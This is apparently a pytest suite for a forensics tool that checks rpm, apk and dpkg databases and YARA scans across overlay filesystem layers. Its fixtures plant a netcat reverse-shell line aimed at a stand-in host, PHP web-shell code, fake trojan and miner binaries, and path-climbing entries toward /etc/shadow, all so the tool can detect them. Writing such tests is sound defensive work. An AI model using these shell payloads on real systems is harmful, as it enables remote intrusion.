"""Package databases in stacks the tests build through real overlay mounts: rpm (a real
rpmdb.sqlite written by Debian's rpm, checked against ``rpm -Va`` on the merged view), apk (its
documented ``installed`` text format, written here with the checksums computed here: apk-tools
is not in Debian 12), hostile dpkg databases, and YARA rules."""
from __future__ import annotations

import base64
import hashlib
import os
import shutil
import subprocess
import sys

import pytest

sys.path.insert(0, os.path.dirname(__file__))
import packages_env as pe  # noqa: E402
from conftest import need  # noqa: E402

import ovforensics  # noqa: E402
from ovforensics.packages import rpm as rpmdb  # noqa: E402


def _scan(upper, lowers, **kw):
    return {r.path_text: r for r in ovforensics.scan(str(upper), [str(x) for x in lowers],
                                                     packages=True, **kw)}


# -- rpm ----------------------------------------------------------------------------------------
@pytest.fixture
def rpm_stack(tmp_path, overlay):
    need(shutil.which("rpmbuild") is not None and shutil.which("rpm") is not None,
         "needs Debian's rpm package (apt-get install -y rpm)")
    build = tmp_path / "build"
    build.mkdir()
    main = pe.build_rpm(build, "ovf-main", "1.0",
                        {"/usr/bin/ovf-main": b"#!/bin/sh\necho main\n",
                         "/etc/ovf-main.conf": b"conf=1\n", "/usr/share/ovf-main/data": b"d\n"},
                        config=("/etc/ovf-main.conf",), links={"/usr/bin/ovf-alias": "ovf-main"})
    gone = pe.build_rpm(build, "ovf-gone", "1.0", {"/usr/share/ovf-gone/f": b"gone\n"})
    up1 = pe.build_rpm(build, "ovf-up", "1.0", {"/usr/share/ovf-up/V": b"1\n"})
    up2 = pe.build_rpm(build, "ovf-up", "1.10", {"/usr/share/ovf-up/V": b"1.10\n"})
    new = pe.build_rpm(build, "ovf-new", "0.1", {"/usr/bin/ovf-new": b"new\n"})
    lower, upper = tmp_path / "lower", tmp_path / "upper"
    lower.mkdir()
    upper.mkdir()
    for pkg in (main, gone, up1):
        proc = pe.rpm(lower, "-i", "--nodeps", "--noscripts", str(pkg))
        assert proc.returncode == 0, proc.stderr
    merged = overlay.mount([lower], upper=upper)
    for args in (("-i", "--nodeps", "--noscripts", str(new)), ("-e", "--nodeps", "ovf-gone"),
                 ("-U", "--nodeps", "--noscripts", str(up2))):
        proc = pe.rpm(merged, *args)
        assert proc.returncode == 0, proc.stderr
    (merged / "usr/bin/ovf-main").write_bytes(b"#!/bin/sh\nexec nc -e /bin/sh evil 4444\n")
    with open(merged / "etc/ovf-main.conf", "a") as fh:
        fh.write("debug=1\n")
    os.unlink(merged / "usr/bin/ovf-alias")
    os.symlink("/tmp/x", merged / "usr/bin/ovf-alias")
    os.chmod(merged / "usr/share/ovf-main/data", 0o600)
    os.unlink(merged / "usr/share/ovf-main/data.bak") if (merged / "usr/share/ovf-main/data.bak").exists() else None
    (merged / "usr/bin/dropper").write_bytes(b"\x7fELF fake")
    (merged / "usr/bin/ovf-new").write_bytes(b"new and changed\n")
    truth = pe.parse_rpm_verify(pe.rpm(merged, "-Va").stdout)
    image_truth = pe.parse_rpm_verify(pe.rpm(lower, "-Va").stdout)
    overlay.umount(merged)
    return upper, lower, truth, image_truth


def test_rpm_statuses_match_rpm_verify(rpm_stack):
    upper, lower, truth, image_truth = rpm_stack
    records = _scan(upper, [lower])
    ours = {p: r.extra["package_status"] for p, r in records.items()
            if r.extra.get("package_status") in ("altered", "missing")}
    expected = {p: s for p, s in truth.items() if p not in image_truth}
    assert ours == expected
    assert {"/usr/bin/ovf-main", "/etc/ovf-main.conf", "/usr/bin/ovf-alias",
            "/usr/bin/ovf-new"} <= set(expected)
    data = records["/usr/share/ovf-main/data"]
    assert (data.what, data.extra["package_status"]) == (("mode",), "intact")
    assert records["/usr/bin/dropper"].extra["package_status"] == "unowned"
    assert records["/usr/bin/ovf-main"].extra["package"] == "ovf-main 1.0-1"
    assert records["/usr/bin/ovf-main"].extra["package_manager"] == "rpm"
    assert records["/usr/share/ovf-gone/f"].extra["package_status"] == "removed"
    v = records["/usr/share/ovf-up/V"]
    assert (v.extra["package_status"], v.extra["package_now"]) == ("intact", "ovf-up 1.10-1")
    # with --hash sha256 (rpm's digest algorithm here) the digests are reused: same answers
    hashed = _scan(upper, [lower], hashes="sha256")
    assert {p: r.extra.get("package_status") for p, r in hashed.items()} == \
        {p: r.extra.get("package_status") for p, r in records.items()}


def test_rpm_packages_command(rpm_stack):
    import json

    upper, lower, _, _ = rpm_stack
    proc = subprocess.run([sys.executable, "-m", "ovforensics", "packages", "--upper", str(upper),
                           "--lower", str(lower), "-f", "jsonl"], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    rows = {r["package"]: r for r in map(json.loads, proc.stdout.splitlines())}
    assert (rows["ovf-new"]["change"], rows["ovf-new"]["altered"]) == ("installed", 1)
    assert rows["ovf-gone"]["change"] == "removed"
    assert (rows["ovf-up"]["change"], rows["ovf-up"]["version_before"],
            rows["ovf-up"]["version_after"]) == ("upgraded", "1.0-1", "1.10-1")  # 1.10 > 1.9
    assert (rows["ovf-main"]["change"], rows["ovf-main"]["altered"]) == ("altered", 3)


def test_rpm_header_parser_refuses_damage():
    with pytest.raises(rpmdb.HeaderError):
        rpmdb.parse_header(b"\x00\x00\x00\x01\x00\x00\x00\x04" + b"\x00" * 8)  # truncated index
    with pytest.raises(rpmdb.HeaderError):
        rpmdb.parse_header(b"\xff\xff\xff\xff" + b"\x00" * 12)
    # NAME as a string with no terminating NUL
    blob = b"\x00\x00\x00\x01\x00\x00\x00\x03" + (1000).to_bytes(4, "big") + \
        (6).to_bytes(4, "big") + (0).to_bytes(4, "big") + (1).to_bytes(4, "big") + b"abc"
    with pytest.raises(rpmdb.HeaderError):
        rpmdb.parse_header(blob)


def test_rpm_berkeley_db_is_said_not_read(tmp_path):
    lower, upper = tmp_path / "lower", tmp_path / "upper"
    (lower / "var/lib/rpm").mkdir(parents=True)
    (lower / "var/lib/rpm/Packages").write_bytes(b"\0" * 4096)
    (lower / "usr/bin").mkdir(parents=True)
    upper.mkdir()
    (upper / "usr").mkdir()
    (upper / "usr/bin").mkdir()
    (upper / "usr/bin/x").write_bytes(b"x")
    records = list(ovforensics.scan(str(upper), [str(lower)], packages=True))
    notes = [r.detail for r in records if r.change == "anomaly"]
    assert any("Berkeley DB" in n and "not read" in n for n in notes), notes
    x = next(r for r in records if r.path == b"/usr/bin/x")
    assert x.extra["package_status"] == "unknown"  # never "unowned": the database was not read


# -- apk ----------------------------------------------------------------------------------------
def _q1(body: bytes) -> str:
    return "Q1" + base64.b64encode(hashlib.sha1(body).digest()).decode()


def _apk_db(packages) -> bytes:
    out = []
    for name, version, files in packages:
        out += ["C:Q1AAAAAAAAAAAAAAAAAAAAAAAAAAA=", f"P:{name}", f"V:{version}", "A:x86_64"]
        dirs: dict[str, list] = {}
        for path, body in files.items():
            dirs.setdefault(os.path.dirname(path).lstrip("/"), []).append((os.path.basename(path), body))
        for d, items in dirs.items():
            out.append(f"F:{d}")
            for base, body in items:
                out += [f"R:{base}", "a:0:0:755", f"Z:{_q1(body)}"]
        out.append("")
    return ("\n".join(out) + "\n").encode()


def _write_tree(root, files):
    for path, body in files.items():
        target = root / path.lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(body)


def test_apk_statuses(tmp_path, overlay):
    musl = {"/lib/ld-musl-x86_64.so.1": b"\x7fELF musl", "/etc/motd": b"Welcome\n"}
    tools = {"/bin/busybox": b"\x7fELF busybox", "/usr/bin/tool": b"tool\n"}
    lower, upper = tmp_path / "lower", tmp_path / "upper"
    upper.mkdir()
    _write_tree(lower, {**musl, **tools})
    (lower / "lib/apk/db").mkdir(parents=True)
    (lower / "lib/apk/db/installed").write_bytes(
        _apk_db([("musl", "1.2.4-r2", musl), ("tools", "1.0-r0", tools)]))
    merged = overlay.mount([lower], upper=upper)
    nginx = {"/usr/sbin/nginx": b"\x7fELF nginx", "/etc/nginx/nginx.conf": b"events {}\n"}
    _write_tree(merged, nginx)  # "apk add nginx" and "apk upgrade tools"
    (merged / "lib/apk/db/installed").write_bytes(
        _apk_db([("musl", "1.2.4-r2", musl), ("tools", "1.1-r0", tools), ("nginx", "1.24-r1", nginx)]))
    (merged / "bin/busybox").write_bytes(b"\x7fELF trojan")
    (merged / "etc/nginx/nginx.conf").write_bytes(b"events {} # edited\n")
    os.chmod(merged / "etc/motd", 0o600)
    os.unlink(merged / "usr/bin/tool")
    (merged / "usr/bin/miner").write_bytes(b"\x7fELF xmrig")
    overlay.umount(merged)
    records = _scan(upper, [lower])
    status = {p: r.extra.get("package_status") for p, r in records.items()}
    assert status["/bin/busybox"] == "altered"
    assert status["/etc/nginx/nginx.conf"] == "altered"
    assert status["/usr/sbin/nginx"] == "intact"
    assert status["/etc/motd"] == "intact"
    assert status["/usr/bin/tool"] == "missing"
    assert status["/usr/bin/miner"] == "unowned"
    assert status["/lib/apk/db/installed"] == "unowned"
    assert records["/usr/sbin/nginx"].extra["package"] == "nginx 1.24-r1"
    assert records["/bin/busybox"].extra["package"] == "tools 1.0-r0"
    assert records["/bin/busybox"].extra["package_now"] == "tools 1.1-r0"
    assert records["/usr/sbin"].extra["package_status"] == "dir"
    from ovforensics.packages.changes import package_rows
    from ovforensics.packages.verify import PackageChecker, load_stack_databases  # noqa: F401

    holder: list = []
    list(ovforensics.scan(str(upper), [str(lower)], packages=holder))
    checker = holder[0]
    rows = {r["package"]: r for r in package_rows(checker.base, checker.merged, checker.tally)}
    assert (rows["nginx"]["change"], rows["nginx"]["altered"]) == ("installed", 1)
    assert (rows["tools"]["change"], rows["tools"]["missing"]) == ("upgraded", 1)
    assert rows["tools"]["altered"] == 1
    assert "musl" not in rows


def test_apk_damaged_lines_are_reported_and_the_rest_read():
    from ovforensics.packages import apk
    from ovforensics.packages.db import Database

    db = Database("apk", "/lib/apk/db/installed")
    apk.parse_installed(b"P:a\nV:1\nF:../../etc\nR:shadow\nZ:Q1xx\n\nP:b\nV:2\nF:usr/bin\n"
                        b"R:b\nZ:Q1notbase64!\nR:..\ngarbage\n", db, {})
    assert set(db.packages) == {"a", "b"}
    assert b"/usr/bin/b" in db.files and not any(b"shadow" in p for p in db.files)
    assert len(db.problems) == 4, db.problems  # bad dir, its file, bad checksum, ".."


# -- hostile dpkg databases -----------------------------------------------------------------------
STATUS = (b"Package: evil\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n"
          b"Conffiles:\n /etc/evil.conf 0123456789abcdef0123456789abcdef\n\n")


def test_dpkg_paths_that_climb_are_reported_not_used(tmp_path):
    lower, upper = tmp_path / "lower", tmp_path / "upper"
    info = lower / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    (lower / "var/lib/dpkg/status").write_bytes(STATUS)
    (info / "evil.list").write_bytes(b"/usr\n/usr/bin\n/usr/bin/evil\n/../../../etc/shadow\n")
    (info / "evil.md5sums").write_bytes(b"%s  usr/bin/evil\n%s  ../etc/passwd\n" % (
        hashlib.md5(b"e").hexdigest().encode(), b"0" * 32))
    _write_tree(lower, {"/usr/bin/evil": b"e", "/etc/evil.conf": b"c"})
    _write_tree(upper, {"/usr/bin/evil": b"E", "/etc/evil.conf": b"c2"})
    records = list(ovforensics.scan(str(upper), [str(lower)], packages=True))
    notes = [r.detail for r in records if r.anomaly == "package-db"]
    assert sum("climbs out" in n for n in notes) == 4, notes  # each view reports both paths
    by = {r.path_text: r for r in records}
    assert by["/usr/bin/evil"].extra["package_status"] == "altered"
    assert by["/etc/evil.conf"].extra["package_status"] == "altered"
    assert by["/etc/evil.conf"].extra["package_conffile"] is True


def test_dpkg_database_behind_a_symlink_or_a_fifo_is_not_read(tmp_path):
    outside = tmp_path / "outside"
    (outside / "info").mkdir(parents=True)
    (outside / "status").write_bytes(STATUS)
    for how in ("symlink", "fifo"):
        lower, upper = tmp_path / how / "lower", tmp_path / how / "upper"
        (lower / "var/lib").mkdir(parents=True)
        if how == "symlink":
            os.symlink(outside, lower / "var/lib/dpkg")
        else:
            (lower / "var/lib/dpkg").mkdir()
            os.mkfifo(lower / "var/lib/dpkg/status")
        _write_tree(upper, {"/usr/bin/x": b"x"})
        records = list(ovforensics.scan(str(upper), [str(lower)], packages=True))
        notes = [r.detail for r in records if r.anomaly == "package-db"]
        assert any(("symlink (not followed)" if how == "symlink" else "a fifo") in n
                   for n in notes), notes
        x = next(r for r in records if r.path == b"/usr/bin/x")
        assert x.extra["package_status"] == "unknown"


def test_no_database_says_so(tmp_path):
    _write_tree(tmp_path / "lower", {"/etc/a": b"a"})
    _write_tree(tmp_path / "upper", {"/etc/a": b"b"})
    records = _scan(tmp_path / "upper", [tmp_path / "lower"])
    assert records["/etc/a"].extra["package_status"] == "no-database"


# -- yara ---------------------------------------------------------------------------------------
RULES = r"""
rule php_webshell { strings: $a = "system($_GET" condition: $a }
rule elf_file { condition: uint32(0) == 0x464c457f }
"""


def test_yara_upper_and_originals(tmp_path, overlay):
    pytest.importorskip("yara") if os.environ.get("OVF_REQUIRE_REAL") != "1" else None
    lower, upper = tmp_path / "lower", tmp_path / "upper"
    upper.mkdir()
    _write_tree(lower, {"/srv/app.php": b"<?php system($_GET['c']); ?>", "/bin/tool": b"\x7fELF..",
                        "/etc/x": b"x"})
    merged = overlay.mount([lower], upper=upper)
    (merged / "srv/app.php").write_bytes(b"<?php echo 1; ?>")  # the web shell was cleaned up
    (merged / "srv/shell.php").write_bytes(b"<?php system($_GET['x']); ?>")
    big = merged / "srv/big.bin"
    with open(big, "wb") as fh:  # a match past 64 MiB of a sparse file: the whole file is read
        fh.truncate(64 << 20)
        fh.seek(64 << 20)
        fh.write(b"system($_GET")
    os.mkfifo(merged / "srv/pipe")
    os.unlink(merged / "bin/tool")
    overlay.umount(merged)
    rules = tmp_path / "rules.yar"
    rules.write_text(RULES)
    records = {r.path_text: r for r in ovforensics.scan(str(upper), [str(lower)], yara=str(rules),
                                                        yara_originals=True)}
    assert records["/srv/shell.php"].extra["yara"] == ["php_webshell"]
    assert records["/srv/big.bin"].extra["yara"] == ["php_webshell"]
    assert records["/srv/app.php"].extra["yara"] == []
    assert records["/srv/app.php"].extra["lower_yara"] == ["php_webshell"]
    assert records["/bin/tool"].extra["lower_yara"] == ["elf_file"]
    assert "yara" not in records["/srv/pipe"].extra  # a FIFO is never opened
    rules_dir = tmp_path / "rules.d"
    rules_dir.mkdir()
    (rules_dir / "web.yar").write_text(RULES)
    records = {r.path_text: r for r in ovforensics.scan(str(upper), [str(lower)], yara=str(rules_dir))}
    assert records["/srv/shell.php"].extra["yara"] == ["web:php_webshell"]
    assert "lower_yara" not in records["/srv/app.php"].extra


def test_yara_bad_rules_and_missing_module(tmp_path):
    rules = tmp_path / "bad.yar"
    rules.write_text("rule broken { condition: nonsense( }")
    (tmp_path / "u").mkdir()
    proc = subprocess.run([sys.executable, "-m", "ovforensics", "diff", "--upper", str(tmp_path / "u"),
                           "--yara", str(rules)], capture_output=True, text=True)
    assert proc.returncode == 2 and "bad.yar" in proc.stderr and "Traceback" not in proc.stderr
    env = dict(os.environ, PYTHONPATH=str(tmp_path / "noyara"))
    (tmp_path / "noyara").mkdir()
    (tmp_path / "noyara" / "yara.py").write_text("raise ImportError('no yara here')\n")
    proc = subprocess.run([sys.executable, "-m", "ovforensics", "diff", "--upper", str(tmp_path / "u"),
                           "--yara", str(rules)], capture_output=True, text=True, env=env)
    assert proc.returncode == 2
    assert proc.stderr.strip().splitlines() == [
        "ovforensics: error: --yara needs yara-python: pip install yara-python (or apt-get "
        "install python3-yara)"]
